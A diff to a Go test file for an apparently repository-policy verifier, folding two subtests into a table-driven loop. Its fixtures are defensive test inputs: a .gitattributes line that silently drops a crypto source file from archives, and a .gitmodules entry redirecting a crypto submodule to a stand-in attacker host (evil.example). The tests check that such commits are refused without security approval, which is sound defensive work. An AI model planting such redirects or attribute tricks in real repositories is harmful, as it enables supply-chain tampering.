@@ -791,37 +791,28 @@ func depthPaths(t *testing.T, tmpl *ScenarioTemplate) {
 		}
 	})
 
-	t.Run("attributes that drop a crypto file from archives", func(t *testing.T) {
-		t.Parallel()
-		// src/crypto/a.go is unchanged, but git archive (and a forge's
-		// release tarball) of main would leave it out.
-		f := setup(t)
-		old := f.Ref(depthMain)
-		m := depthCommit(f, ".gitattributes", "src/crypto/a.go export-ignore")
-		n := refusedThenForged(f, depthMain, old, m, ".gitattributes")
-		p, _ := f.MustFail(verify.Options{}, verify.ErrUnauthorized, depthMain, "rule crypto", "dev1 is not allowed", ".gitattributes")
-		if p.Entry != n {
-			t.Errorf("problem on entry #%d, want #%d", p.Entry, n)
-		}
-		f.Approve("sec1", "main", m, old.String())
-		f.MustVerify(verify.Options{})
-	})
-
-	t.Run("gitmodules that redirect a submodule in the crypto tree", func(t *testing.T) {
-		t.Parallel()
-		// No crypto file changes, but git submodule update --remote
-		// would fetch src/crypto/vendor from the attacker's server.
-		f := setup(t)
-		old := f.Ref(depthMain)
-		m := depthCommit(f, ".gitmodules", "[submodule \"v\"]\n\tpath = src/crypto/vendor\n\turl = https://evil.example/v.git\n")
-		n := refusedThenForged(f, depthMain, old, m, ".gitmodules")
-		p, _ := f.MustFail(verify.Options{}, verify.ErrUnauthorized, depthMain, "rule crypto", "dev1 is not allowed", ".gitmodules")
-		if p.Entry != n {
-			t.Errorf("problem on entry #%d, want #%d", p.Entry, n)
-		}
-		f.Approve("sec1", "main", m, old.String())
-		f.MustVerify(verify.Options{})
-	})
+	// Files that change what is made of the crypto files while those stay
+	// unchanged: git archive (and a forge's release tarball) of main would
+	// leave src/crypto/a.go out; git submodule update --remote would fetch
+	// src/crypto/vendor from the attacker's server.
+	for _, tc := range []struct{ name, file, content string }{
+		{"attributes that drop a crypto file from archives", ".gitattributes", "src/crypto/a.go export-ignore"},
+		{"gitmodules that redirect a submodule in the crypto tree", ".gitmodules", "[submodule \"v\"]\n\tpath = src/crypto/vendor\n\turl = https://evil.example/v.git\n"},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			t.Parallel()
+			f := setup(t)
+			old := f.Ref(depthMain)
+			m := depthCommit(f, tc.file, tc.content)
+			n := refusedThenForged(f, depthMain, old, m, tc.file)
+			p, _ := f.MustFail(verify.Options{}, verify.ErrUnauthorized, depthMain, "rule crypto", "dev1 is not allowed", tc.file)
+			if p.Entry != n {
+				t.Errorf("problem on entry #%d, want #%d", p.Entry, n)
+			}
+			f.Approve("sec1", "main", m, old.String())
+			f.MustVerify(verify.Options{})
+		})
+	}
 
 	t.Run("new branch at an older commit of main", func(t *testing.T) {
 		t.Parallel()
